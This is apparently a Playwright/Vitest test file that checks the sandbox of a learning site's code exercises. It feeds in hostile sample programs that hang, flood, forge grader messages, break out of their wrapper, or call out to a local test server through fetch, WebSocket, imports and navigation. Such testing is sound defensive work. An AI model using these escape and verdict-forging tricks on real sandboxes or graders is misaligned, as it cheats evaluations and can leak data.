import {readFileSync} from "node:fs";
import {join} from "node:path";
import type {Page} from "playwright-core";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {findExercises} from "../../src/components/exercise/findExercises.js";
import type {WriteExercise} from "../../src/components/exercise/writeExercise.js";
import {root} from "../../tools/root.js";
import {codeExercises} from "../codeExercises.js";
import {open, pagePaths, type Opened} from "./open.js";
import {otherServer} from "./otherServer.js";

interface Target {
  readonly path: string;
  readonly exercise: WriteExercise;
}

/** The first code exercise of the site: its page, and what the page knows of it. */
function target(): Target {
  for (const path of pagePaths.filter((path) => path.startsWith("stages/"))) {
    const file = `${path.replace(/\/$/, "/index")}.md`;
    for (const {kind, name} of findExercises(`/${path}`, readFileSync(join(root, "src", file), "utf8"))) {
      const exercise = kind === "write" ? codeExercises.find((one) => one.name === name) : undefined;
      if (exercise !== undefined) return {path, exercise};
    }
  }
  throw new Error("no page of the site has an exercise that runs code");
}

const {path, exercise} = target();
const named = (body: string) => `function ${exercise.functionName}(...args) { ${body} }`;
const forged = JSON.stringify(exercise.cases.map((_, index) => ({type: "value", index, value: true, args: []})));

const other = await otherServer();
const leak = other.address;

/** Programs that would hang, flood, leak, cheat or outlive their run, and what the verdict says. */
const hostile: readonly (readonly [title: string, code: string, verdict: RegExp])[] = [
  ["loops for ever", named("while (true) {}"), /no answer/],
  ["loops for ever outside the function", "while (true) {}", /no answer/],
  ["loops for ever in a getter of what it returns", named("return {get x() { while (true) {} }}"), /no answer/],
  ["recurses for ever", named(`return ${exercise.functionName}(...args)`), /call stack/],
  [
    "allocates for ever",
    named("const a = []; while (true) a.push(new Float64Array(1e6).fill(1))"),
    /no answer|can’t run|threw/
  ],
  ["throws null", named("throw null"), /threw null/],
  ["throws what can't be shown", named("throw {toString() { throw 1 }, toJSON() { throw 1 }}"), /can’t be shown/],
  ["never settles its promise", named("return new Promise(() => {})"), /no answer/],
  ["returns a function", named("return () => 1"), /can’t be compared/],
  ["returns a Proxy", named("return new Proxy([], {get() { return 1 }})"), /can’t be compared/],
  ["returns far too much", named("return 'x'.repeat(5e8)"), /more than the page reads|no answer|threw/],
  ["returns a value that contains itself", named("const a = []; a.push(a); return a"), /more than the page reads/],
  [
    "logs a million lines",
    named("for (let i = 0; i < 1e6; i++) console.log('x'.repeat(1000)); return 0"),
    /should be|no answer/
  ],
  [
    "posts a million messages",
    named("for (let i = 0; i < 1e6; i++) postMessage({type: 'log', text: 'x'}); return 0"),
    /more messages|no answer/
  ],
  ["fetches", named(`return fetch('http://${leak}').then(() => 1)`), /threw/],
  [
    "asks another server and waits",
    named(`const r = new XMLHttpRequest(); r.open('GET', 'http://${leak}', false); r.send(); return 1`),
    /threw/
  ],
  [
    "opens a socket",
    named(
      `return new Promise((ok, no) => { const s = new WebSocket('ws://${leak}'); s.onerror = () => no(new Error('closed')); s.onopen = ok })`
    ),
    /threw|no answer/
  ],
  ["imports a script", named(`return import('http://${leak}.js')`), /threw/],
  ["imports a classic script", named(`importScripts('http://${leak}.js'); return 1`), /threw/],
  ["loads an image", named(`new Image().src = 'http://${leak}'; return 1`), /threw/],
  ["navigates", named(`location = 'http://${leak}'; return 1`), /threw|should be/],
  [
    "starts workers of its own",
    named("for (let i = 0; i < 20; i++) new Worker(URL.createObjectURL(new Blob(['while (true) {}']))); return 1"),
    /should be|threw|no answer/
  ],
  [
    "redefines Math, map, Object.is and JSON",
    `Math.abs = () => 0; Array.prototype.map = () => []; Object.is = () => true; JSON.stringify = () => "1"; Object.keys = () => []; ${named("return 1")}`,
    /should be/
  ],
  ["redefines postMessage", `self.postMessage = () => {}; ${named("return 1")}`, /should be/],
  [
    "forges answers",
    `for (const m of ${forged}) postMessage(m); postMessage({type: "done", right: true}); postMessage({type: "right"}); ${named("return 1")}`,
    /should be/
  ],
  [
    "writes the verdict into the page",
    named(
      "try { parent.document.title = 'x' } catch {} try { top.postMessage({type: 'done'}, '*') } catch {} return 1"
    ),
    /should be/
  ],
  [
    "looks for the expected values",
    named(
      `const seen = JSON.stringify(Object.getOwnPropertyNames(self).map((k) => { try { return String(self[k]) } catch { return '' } })); return seen.includes('expected') ? 'found' : 'nothing'`
    ),
    /should be(?!.*"found")/
  ],
  [
    "breaks out of its function",
    `} ; postMessage({type: "done"}); while (true) {} function x() {`,
    /gave no answer|can’t run/
  ],
  ["is not JavaScript", "function (", /can’t run: SyntaxError.*line 1/],
  ["is not there", "const other = 1", /no function called/],
  [
    "sets a timer for later",
    named("setInterval(() => postMessage({type: 'value', index: 0, value: 0, args: []}), 1); return 1"),
    /should be/
  ]
];

let opened: Opened;
beforeAll(async () => {
  opened = await open(path);
});
afterAll(async () => {
  await opened.close();
  other.close();
});

interface Run {
  readonly status: string | undefined;
  readonly verdict: string;
  readonly seconds: number;
  /** The longest task of the page in milliseconds: a timer would also count what other programs take from it. */
  readonly gap: number;
  /** Frames that are left when it is over. */
  readonly frames: number;
}

const run = async (page: Page, code: string): Promise<Run> => {
  const body = page.locator(`[data-exercise="${exercise.name}"]`);
  await body.locator("textarea").fill(code);
  return body.evaluate(async (node: HTMLElement) => {
    let gap = 0;
    const watch = new PerformanceObserver((list) => {
      for (const {duration} of list.getEntries()) gap = Math.max(gap, duration);
    });
    watch.observe({type: "longtask"});
    const began = performance.now();
    node.querySelector<HTMLButtonElement>(".button.primary")?.click();
    while (node.dataset["status"] === "running") await new Promise((resolve) => setTimeout(resolve, 10));
    const seconds = (performance.now() - began) / 1000;
    await new Promise((resolve) => setTimeout(resolve, 50));
    watch.disconnect();
    const verdict = node.querySelector(".verdict")?.textContent ?? "";
    return {status: node.dataset["status"], verdict, seconds, gap, frames: document.querySelectorAll("iframe").length};
  });
};

describe("the sandbox of code exercises", () => {
  it("accepts the solution of its exercise", async () => {
    expect(await run(opened.page, exercise.solution)).toMatchObject({status: "right", frames: 0});
  });

  it.each(hostile)("answers code that %s, within three seconds", {retry: 2}, async (_, code, verdict) => {
    const found = await run(opened.page, code);
    expect(found.verdict).toMatch(verdict);
    expect(found).toMatchObject({status: "wrong", frames: 0});
    expect(found.seconds).toBeLessThan(3);
    expect(found.gap).toBeLessThan(100);
  });

  it("still works after all of them, and nothing has left the page", async () => {
    expect(other.visits()).toBe(0);
    expect(opened.problems.filter((problem) => problem.startsWith("page error"))).toEqual([]);
    expect(await run(opened.page, exercise.solution)).toMatchObject({status: "right", frames: 0});
  });
});
